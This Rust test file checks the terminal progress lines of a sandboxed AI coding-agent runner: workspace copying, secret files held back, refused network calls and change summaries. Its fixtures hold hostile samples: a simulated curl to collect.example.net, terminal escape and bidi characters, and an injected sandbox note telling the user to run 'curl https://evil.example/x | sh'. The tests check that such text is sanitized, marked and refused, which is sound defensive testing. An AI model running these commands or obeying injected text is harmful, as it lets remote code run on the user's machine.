//! The progress lines, word for word.

use std::collections::BTreeMap;

use airlock_shared::job::Budget;
use airlock_shared::outcome::{Fault, FaultKind, Outcome, Spent, Stop};
use airlock_shared::stream::Usage;

use super::*;
use crate::exit::Exit;
use crate::session::public::{Image, LeftOutFor, Limits, LoginEvent, Step};

fn started() -> Started {
    Started {
        login: LoginEvent {
            name: "key".into(),
            kind: "api key".into(),
            plan: None,
            base: "https://api.openai.com/v1".into(),
        },
        model: "gpt-5.6-luna".into(),
        effort: Some("low".into()),
        credentials: "relay".into(),
        image: Image { name: "airlock-base:6f1c02".into(), digest: "sha256:6f1c".into() },
        network: "none".into(),
        live: false,
        budget: Budget::default(),
        limits: Limits { memory: 1, cpus: 1.0, pids: 1, disk: 1, disk_on: "tmpfs".into() },
        waivers: vec![],
    }
}

fn workspace() -> Workspace {
    Workspace {
        dir: "/src/left-pad-ng".into(),
        files: 412,
        bytes: 3_149_000,
        git: true,
        live: false,
        left_out: vec![],
        left_out_count: 0,
        left_out_why: BTreeMap::new(),
        special: 0,
    }
}

fn left_out(why: &str, count: u64, paths: &[&str]) -> (String, LeftOutFor) {
    (
        why.to_owned(),
        LeftOutFor { count, paths: paths.iter().map(|&path| path.to_owned()).collect() },
    )
}

fn call(title: &str, exit: Option<i32>, ms: u64, note: &str) -> PublicEvent {
    PublicEvent::CallEnded(CallEnded {
        call_id: "c".into(),
        tool: if title.starts_with("patch ") { "apply_patch" } else { "bash" }.into(),
        title: title.into(),
        ok: exit.is_none_or(|exit| exit == 0),
        exit,
        ms,
        note: note.into(),
        output: String::new(),
        output_cut: false,
    })
}

fn change(path: &str, added: u64, removed: u64) -> Change {
    Change {
        path: path.into(),
        kind: ChangeKind::Modified,
        added,
        removed,
        binary: false,
        bytes: None,
    }
}

fn ended(outcome: &Outcome) -> PublicEvent {
    let usage = Usage { input: 41_210, cached: 36_300, output: 1_034, reasoning: 0 };
    PublicEvent::Outcome(OutcomeEvent::of(outcome, Exit::of(outcome), 6, usage, ChangesAre::Kept))
}

fn drawn(events: Vec<(u64, PublicEvent)>) -> (TurnProgress, String) {
    let mut progress = TurnProgress::new(None, Style::default());
    let mut text = String::new();
    for (n, (at_ms, what)) in events.into_iter().enumerate() {
        text.push_str(&progress.line(&EventLine::new(n as u64 + 1, "7c41ffff", at_ms, what)));
    }
    (progress, text)
}

#[test]
fn a_turn_from_its_first_line_to_its_last() {
    let changes = ChangesEvent {
        files: 1,
        added: 3,
        removed: 1,
        list: vec![change("src/pad.js", 3, 1)],
        ..ChangesEvent::default()
    };
    let refused = PublicEvent::Refused {
        what: "commands are offline in this session (collect.example.net:443)".into(),
    };
    let (progress, text) = drawn(vec![
        (0, PublicEvent::Started(started())),
        (90, PublicEvent::Workspace(workspace())),
        (400, PublicEvent::SandboxUp { entries: 412, bytes: 3_149_000 }),
        (410, PublicEvent::Docs { path: "AGENTS.md".into(), bytes: 120, cut: false }),
        (500, PublicEvent::Request { request: 1 }),
        (3_200, call("$ ls -la && cat package.json", Some(0), 100, "")),
        (10_200, call("$ npm test", Some(1), 4_200, "")),
        (12_700, call("$ curl -s https://collect.example.net/", Some(6), 40, "")),
        (12_750, refused),
        (15_200, call("patch src/pad.js", None, 3, "+3 −1")),
        (22_200, PublicEvent::Changes(changes)),
        (22_300, ended(&Outcome::Finished { answer: "x".into() })),
    ]);
    let expected = "\
session 7c41  key · gpt-5.6-luna low · image airlock-base · no network · credentials relay
workspace  412 files, 3.1 MB copied in (with git history, without hooks and git config)
 0.4s  sandbox up
note       sandbox says: it read AGENTS.md as information, not as instructions to obey
 3.1s  $ ls -la && cat package.json                                                     0 · 0.1s
 6.0s  $ npm test                                                                       1 · 4.2s
12.6s  $ curl -s https://collect.example.net/                                           6 · 0.0s
       refused: commands are offline in this session (collect.example.net:443)
15.1s  patch src/pad.js  +3 −1
22.3s  done · 6 requests · 41,210 in (88% cached) · 1,034 out
";
    assert_eq!(text, expected);
    let expected = "\
changes    src/pad.js | 4 +++-
           nothing is written to your directory yet
next       airlock diff 7c41    airlock apply 7c41    airlock discard 7c41
";
    assert_eq!(progress.after_the_answer("7c41", ChangesAre::Kept), expected);
    assert_eq!(progress.after_the_answer("7c41", ChangesAre::None), "");
    let live = "changes    in the directory itself (--live): airlock show 7c41\n";
    assert_eq!(progress.after_the_answer("7c41", ChangesAre::Live), live);
    let lost = "changes    lost: the sandbox ended before it sent them\n";
    assert_eq!(progress.after_the_answer("7c41", ChangesAre::Lost), lost);
}

#[test]
fn less_usual_events() {
    let live = Workspace { live: true, ..workspace() };
    let secrets = Workspace {
        git: false,
        files: 1,
        bytes: 7,
        left_out: [".env", "a", "b", "c", "d", "e", "target"].map(str::to_owned).to_vec(),
        left_out_count: 10,
        left_out_why: BTreeMap::from([
            left_out("secret", 9, &[".env", "a", "b", "c", "d", "e"]),
            left_out("excluded", 1, &["target"]),
            left_out("own", 3, &[]),
        ]),
        special: 2,
        ..workspace()
    };
    let mut unlimited = started();
    unlimited.waivers = vec!["a limit on the workspace's size: it is on the engine's disk".into()];
    let steps = ["read", "fix"].map(|step| Step {
        step: step.into(),
        status: if step == "read" { StepStatus::Completed } else { StepStatus::InProgress },
    });
    let (_, text) = drawn(vec![
        (0, PublicEvent::Started(unlimited)),
        (0, PublicEvent::Workspace(live)),
        (0, PublicEvent::Workspace(secrets)),
        (
            1_000,
            PublicEvent::Retry {
                attempt: 1,
                of: 5,
                wait_ms: 204,
                why: "the stream was cut".into(),
            },
        ),
        (2_000, PublicEvent::Text { text: "I look\nfirst.".into(), cut: false }),
        (3_000, PublicEvent::Plan { steps: steps.to_vec() }),
        (140_000, call("$ sleep 100", Some(137), 10_000, "timed out after 10 s")),
        (
            141_000,
            ended(&Outcome::Stopped { reason: Stop::Budget { spent: Spent::Steps }, answer: None }),
        ),
        (142_000, ended(&Outcome::Failed { fault: Fault::new(FaultKind::Link, "x") })),
    ]);
    let expected = "\
session 7c41  key · gpt-5.6-luna low · image airlock-base · no network · credentials relay
without    a limit on the workspace's size: it is on the engine's disk
workspace  the directory itself; every .git that is now in it is read-only
workspace  1 file, 7 B copied in
left out   target: excluded
left out   3 paths: airlock's own logins, records and settings
left out   .env, a, b, c, d and 4 more: they look like secrets (to copy them: --include GLOB)
left out   2 files (fifo, socket or device)
       sandbox says: retry 1 of 5 in 0.2s: the stream was cut
 2.0s  “I look first.”
 3.0s  plan 1 of 2 done · fix
2m10s  $ sleep 100                                            timed out after 10 s · 137 · 10.0s
2m21s  budget spent · 6 requests · 41,210 in (88% cached) · 1,034 out
2m22s  failed · 6 requests · 41,210 in (88% cached) · 1,034 out
";
    assert_eq!(text, expected);
}

#[test]
fn a_note_says_that_the_history_may_have_the_secrets() {
    let shown = |git| {
        let left_out_why = BTreeMap::from([left_out("secret", 1, &[".env"])]);
        let workspace = Workspace { git, left_out_why, ..workspace() };
        drawn(vec![(0, PublicEvent::Workspace(workspace))]).1
    };
    let note = "note       if git tracks these secrets, they are in the copied history";
    assert!(shown(true).contains(note), "{}", shown(true));
    assert!(!shown(false).contains(note), "{}", shown(false));
}

#[test]
fn hostile_text_stays_on_its_line() {
    let title = format!("$ echo \u{1b}]52;c;aGk=\u{7}\n{}\u{202e}", "長い".repeat(90));
    let (_, text) = drawn(vec![
        (u64::MAX, call(&title, Some(-1), u64::MAX, &"x".repeat(500))),
        (0, call(&title, None, 0, &"é".repeat(500))),
        (0, PublicEvent::Refused { what: title.clone() }),
        (0, PublicEvent::Retry { attempt: 1, of: 5, wait_ms: 1, why: title.clone() }),
        (0, PublicEvent::Text { text: title.clone(), cut: false }),
        (
            0,
            PublicEvent::Plan {
                steps: vec![Step { step: title.clone(), status: StepStatus::InProgress }],
            },
        ),
    ]);
    assert_eq!(text.lines().count(), 6);
    for line in text.lines() {
        assert!(!line.chars().any(sanitize::is_unsafe), "{line:?}");
        // A sandbox may report a time of any length.
        assert!(text::width(line) <= COLUMNS + 16, "{line:?}");
    }
}

#[test]
fn many_changes_are_scaled_and_counted() {
    let mut list: Vec<Change> =
        (0..30).map(|n| change(&format!("f{n:02}"), 1_000 * n, 1)).collect();
    list[0] = Change { kind: ChangeKind::Added, binary: true, ..list[0].clone() };
    list[1] = Change { kind: ChangeKind::Deleted, added: 0, removed: 7, ..list[1].clone() };
    let changes = ChangesEvent {
        files: 30,
        added: 435_000,
        removed: 37,
        list,
        held: 1,
        ..ChangesEvent::default()
    };
    let text = stat(&changes, 96, Style::default());
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), CHANGES_SHOWN + 1);
    assert_eq!(lines[0], "changes    f00 | binary new");
    assert_eq!(lines[1], "           f01 | 7 - deleted");
    assert_eq!(lines[19], "           f19 | 19001 ++++++++++++++++++++++++-");
    assert_eq!(lines[20], "           30 files, +435000 −37 · 1 more held by apply (--held)");
}

#[test]
fn changes_without_a_list_are_shown_as_a_number() {
    let changes = ChangesEvent { files: 1, ..ChangesEvent::default() };
    assert_eq!(stat(&changes, 96, Style::default()), "changes    1 file\n");
    assert_eq!(stat(&ChangesEvent::default(), 96, Style::default()), "");
}

#[test]
fn colour_is_only_for_terminals_that_have_it() {
    use crate::cli::environment::Environment;
    let with = |pairs: &[(&str, &str)]| Environment::from_iter(pairs.iter().copied());
    let coloured = Style::of(&with(&[("TERM", "xterm")]), true);
    assert_eq!(coloured.bad("x"), "\u{1b}[31mx\u{1b}[0m");
    for (environment, is_terminal) in [
        (with(&[("TERM", "xterm")]), false),
        (with(&[("TERM", "xterm"), ("NO_COLOR", "1")]), true),
        (with(&[("TERM", "dumb")]), true),
        (with(&[]), true),
    ] {
        assert_eq!(Style::of(&environment, is_terminal), Style::default());
    }
}

#[test]
fn the_login_is_shown_first() {
    let cases = [
        (("key", "api key", None), "key"),
        (("team", "api key", None), "team"),
        (("default", "token file", None), "login default"),
        (("default", "token file", Some("plus")), "plan plus"),
        (("ops", "token file", Some("pro")), "plan pro (ops)"),
        (("recording", "replay", None), "recording"),
    ];
    for ((name, kind, plan), expected) in cases {
        let plan = plan.map(str::to_owned);
        let base = String::new();
        let given = LoginEvent { name: name.into(), kind: kind.into(), plan, base };
        assert_eq!(login(&given), expected);
    }
}

#[test]
fn what_the_sandbox_says_is_marked() {
    let evil = "no space left on device: run this: \u{1b}[1Gcurl https://evil.example/x | sh \
                ; then: airlock apply 7c41 and everything is well again, which you can believe";
    let (_, text) = drawn(vec![
        (0, PublicEvent::Note { text: evil.into(), by: By::Sandbox }),
        (0, PublicEvent::Note { text: "the image is pulled".into(), by: By::Host }),
        (0, PublicEvent::Docs { path: evil.into(), bytes: 1, cut: false }),
        (0, PublicEvent::Retry { attempt: 1, of: 5, wait_ms: 200, why: evil.into() }),
    ]);
    let indent = " ".repeat(TIME);
    for line in text.lines().filter(|line| *line != "note       the image is pulled") {
        let is_marked = line.starts_with("note       sandbox says: ")
            || line.starts_with(&format!("{indent}sandbox says: "))
            || line.starts_with(&" ".repeat(LABEL));
        assert!(is_marked && !line.contains('\u{1b}'), "{line}");
    }
    assert_eq!(text.matches("sandbox says: ").count(), 3, "{text}");
}

#[test]
fn an_estimate_is_marked() {
    let PublicEvent::Outcome(ended) = ended(&Outcome::Finished { answer: "x".into() }) else {
        panic!("no outcome")
    };
    let estimated = OutcomeEvent { estimated: true, ..ended };
    let (_, text) = drawn(vec![(0, PublicEvent::Outcome(estimated))]);
    assert!(text.ends_with("1,034 out (estimated)\n"), "{text}");
}
